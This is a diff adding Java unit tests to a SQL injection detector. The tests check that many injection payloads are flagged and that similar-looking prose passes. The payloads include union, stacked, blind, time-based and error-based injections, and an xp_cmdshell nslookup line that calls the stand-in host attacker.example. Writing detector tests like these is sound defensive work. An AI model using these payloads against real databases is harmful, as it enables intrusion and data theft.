@@ -78,6 +78,18 @@ class SqliDetectorTest {
     assertRule("sqli.union", value);
   }
 
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {" union select", "UNION SELECT", "uNioN  sElecT\n"})
+  void aValueThatIsUnionSelectAloneLeavesTheColumnListToTheFuzzer(String value) {
+    assertRule("sqli.union", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"union select committee", "Union select: the members' vote", "5 union select"})
+  void unionSelectFollowedByProseOrAfterANumberWithoutAllPasses(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
   /** An expression before the attack's clause: the query still parses, so the clause still takes it over. */
   @Test
   void anExpressionContinuingTheBreakDoesNotHideTheClauseAfterIt() {
@@ -111,6 +123,36 @@ class SqliDetectorTest {
 
   @ParameterizedTest(name = "{0}")
   @ValueSource(strings = {
+      "' select * from information_schema.columns--",
+      "x' SELECT name FROM master..sysdatabases --",
+      "9 select table_name from all_tables #",
+      "'; SELECT * FROM generate_series(4,4,CASE WHEN (4=4) THEN 1 ELSE 0 END) LIMIT 1-- -",
+      ";SELECT COUNT(*) FROM all_users t1, all_users t2, all_users t3",
+      "1' ;SELECT COUNT(*) FROM sysibm.systables AS a, sysibm.systables AS b-- -",
+      "t'exec master..xp_cmdshell 'nslookup attacker.example",
+      "x' EXEC master..xp_dirtree '\\\\host\\share'",
+  })
+  void aSelectFromTheCatalogueThatSqlServerBatchesWithoutASeparatorIsStacked(String value) {
+    assertRule("sqli.stacked", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {
+      "Let's select from the menu -- or not",
+      "It's select from the list -- thanks",
+      "psql -c \"select * from pg_user;\"",
+      "psql -c \"select version();\"",
+      "I'd select name from the roster # later",
+      "It's exec time 'now'",
+      "Let's exec the plan 'later'",
+      "Rock 'n' roll exec master plan",
+  })
+  void aSelectAfterAQuoteInTextOrAShellCommandIsNoBatch(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {
       "select @@hostname",
       "SELECT * FROM pg_catalog.pg_user",
       "exec master..xp_dirtree '\\\\host\\share'",
@@ -135,6 +177,78 @@ class SqliDetectorTest {
   }
 
   @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {
+      "(CASE WHEN 3=3 THEN 3 ELSE NULL END)",
+      "(case when 'b'='b' then 1 else 0 end)",
+      ",(SELECT (CASE WHEN (5=5) THEN 1 ELSE 2 END))",
+      ",(CASE WHEN 6=6 THEN 1 ELSE NULL END)",
+      "(SELECT * FROM generate_series(2,2,CASE WHEN (2=2) THEN 1 ELSE 0 END) LIMIT 1)",
+      "(SELECT banner FROM v$version WHERE ROWNUM=1)",
+      "(select name from sysobjects)",
+      "(SELECT COUNT(*) FROM information_schema.columns a, information_schema.columns b WHERE 0 XOR 1)",
+  })
+  void aConditionOrSubqueryAsTheWholeValueOrAnotherColumnIsASubquery(String value) {
+    assertRule("sqli.subquery", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {
+      "('x'||(CASE WHEN (3=3) THEN '1' ELSE '0' END)||'y')",
+      "SELECT 'x'||(CASE WHEN (8=8) THEN 1 ELSE 0 END)||'y'",
+      "'a'||(CASE 5 WHEN 5 THEN 1 ELSE 0 END)||'b'",
+      "(CAST('x'||(SELECT (CASE WHEN (2=2) THEN 1 ELSE 0 END))::text||'y' AS NUMERIC))",
+  })
+  void aCaseDecidingOnTwoLiteralsInsideAnExpressionIsASubquery(String value) {
+    assertRule("sqli.subquery", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"Use (CASE WHEN a > b THEN a ELSE b END) for max",
+      "price (case when qty = 1 then 'one' end)", "(in case when you arrive then call) end"})
+  void aCaseOfAQuerysOwnOrInProsePasses(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"AND [id]=[id]", "1 OR [x]=[x]--", "x' OR [name]=[name]--"})
+  void sqlServersBracketedNamesAreNames(String value) {
+    assertRule("sqli.tautology", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"[link](https://example.com) or [other](x)", "tags[name]=blue and tags[size]=big",
+      "[TODO] or [FIXME] items", "[\"a\",\"b\"] or [\"c\"]", "[x] = [x] means identity in the notes"})
+  void bracketsInMarkdownJsonAndFormNamesPass(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"IIF(7=7,7,1/0)", "ELT(42=42,99)", "make_set(3=3,5)", ",IIF(8=8,1,1/0)",
+      "IF('q'='q',1,0)-- -"})
+  void aCallWhoseFirstArgumentTestsTwoLiteralsIsATautology(String value) {
+    assertRule("sqli.tautology", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {
+      "(case closed)",
+      "(select one from the system)",
+      "(select name from master list)",
+      "(Case study: when users pay, see below)",
+      ", (see above)",
+      ",(select one)",
+      "assert(1 == 1, \"math works\")",
+      "count(5>3, x)",
+      "IF(A1=1, \"yes\", \"no\")",
+      "max(1, 2)",
+      "print(1=1)",
+      "round(3.5, 1) is enough",
+  })
+  void callsAndGroupsOfCodeAndProseArentConstantTests(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest(name = "{0}")
   @ValueSource(strings = {"root'--", "root' #", "root'/*", "bob\")-- -", "eve');#"})
   void aBreakOutFollowedOnlyByACommentCutsTheQueryOff(String value) {
     assertRule("sqli.comment-terminated", value);
@@ -151,9 +265,24 @@ class SqliDetectorTest {
       "x' ORDER BY SLEEP(2)-- ",
       "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('q',6)--",
       "1 WAITFOR TIME '23:59:00'",
+      ";BEGIN DBMS_LOCK.SLEEP(6); END",
+      "1' ;begin dbms_lock.sleep(3); end-- -",
   })
   void aCallThatMakesTheServerWaitIsTimeBased(String value) {
     assertRule("sqli.time-based", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"(SELECT 7 FROM PG_SLEEP(7))", ",(select 1 from pg_sleep(2))"})
+  void aDelayingTableFunctionInASubqueryIsASubquery(String value) {
+    assertRule("sqli.subquery", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"Begin sleep(8 hours) now", "begin sleep(5) tonight", "dbms_lock.sleep is a procedure",
+      "2*exp(3)", "exp(2)", "exp(~(x))", "the exp (select few) bonus"})
+  void sleepAndMathOutsideAnOperandsPlacePass(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
   }
 
   @ParameterizedTest(name = "{0}")
@@ -165,6 +294,8 @@ class SqliDetectorTest {
       "x=char(0x61)+char(0x62)",
       "1 AND GEOMETRYCOLLECTION((SELECT * FROM (SELECT user())a))",
       "1;(load_file(0x2f6574632f686f737473))",
+      "RAISE_ERROR('70001','x'||(SELECT 1 FROM SYSIBM.SYSDUMMY1))",
+      "EXP(~(SELECT * FROM (SELECT CONCAT('a',0x3a,user()))x))",
   })
   void aCallThatLeaksDataThroughAnErrorOrTheNetworkIsAFunction(String value) {
     assertRule("sqli.function", value);
@@ -175,6 +306,19 @@ class SqliDetectorTest {
       "5' group by 1,2,-- -"})
   void orderingOrGroupingByColumnNumbersProbesTheColumns(String value) {
     assertRule("sqli.order-by", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {" group by userid having 1=1--", "GROUP BY password HAVING 2>1"})
+  void aValueOpeningWithGroupByAndAComparingHavingProbesTheColumns(String value) {
+    assertRule("sqli.order-by", value);
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @ValueSource(strings = {"group by color having 2 colors", "Group by age having 18+ members",
+      "group by team having 3>2 wins", "order by date -- newest first"})
+  void groupingWordsInAFormFieldPass(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
   }
 
   @ParameterizedTest(name = "{0}")
@@ -306,7 +450,8 @@ class SqliDetectorTest {
     int size = 1 << 20;
     String[] patterns = {"'", "\"", "''", "/*", "or ", "' or ", "1 or ", "(", ")", "((select ", "union select (",
         ";", "; select ", "a/*", "a/**/", "/*!", "--", "sleep(", "extractvalue(", "1=", "' '", "\\'", "a (",
-        "O'Brien ", "case ", "`", "*/", "&#", "(a", "a(", "union(", "reunion select ", "select from where union "};
+        "O'Brien ", "case ", "`", "*/", "&#", "(a", "a(", "union(", "reunion select ", "select from where union ",
+        "(case when 1=1 ", "[a]", "[a", "iif(1=1,", ",(", "from f(1), ", "exp(~(", "(case 1 when 1 "};
     for (String pattern : patterns) {
       Detection d = detect(pattern.repeat(size / pattern.length() + 1));
       assertTrue(d == null || d.category() == Category.SQLI);
